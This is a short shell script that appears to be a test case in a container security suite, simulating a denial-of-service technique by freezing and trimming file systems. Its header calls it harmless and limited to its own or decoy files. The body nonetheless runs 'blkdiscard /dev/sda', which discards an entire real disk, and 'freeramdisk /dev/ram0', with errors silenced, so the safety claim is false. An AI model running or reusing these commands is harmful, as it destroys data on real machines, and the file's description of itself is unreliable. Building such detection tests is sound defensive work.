#!/bin/sh
# case: T1222-fsfreeze-and-trim
# technique: File system frozen and trimmed
# source: denial of service
# needs: fstrim|sync
# expect: kernel exec priv resource escape
# where: container
# image: busybox
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
W=${TMPDIR:-/tmp}/ho.$$; mkdir -p "$W" || exit 77
trap 'cd / && rm -rf "$W"' EXIT; trap 'exit 1' INT TERM
fstrim "$W" >/dev/null 2>&1; blkdiscard /dev/sda >/dev/null 2>&1; freeramdisk /dev/ram0 >/dev/null 2>&1; mkswap "$W/none" >/dev/null 2>&1; true
exit 0
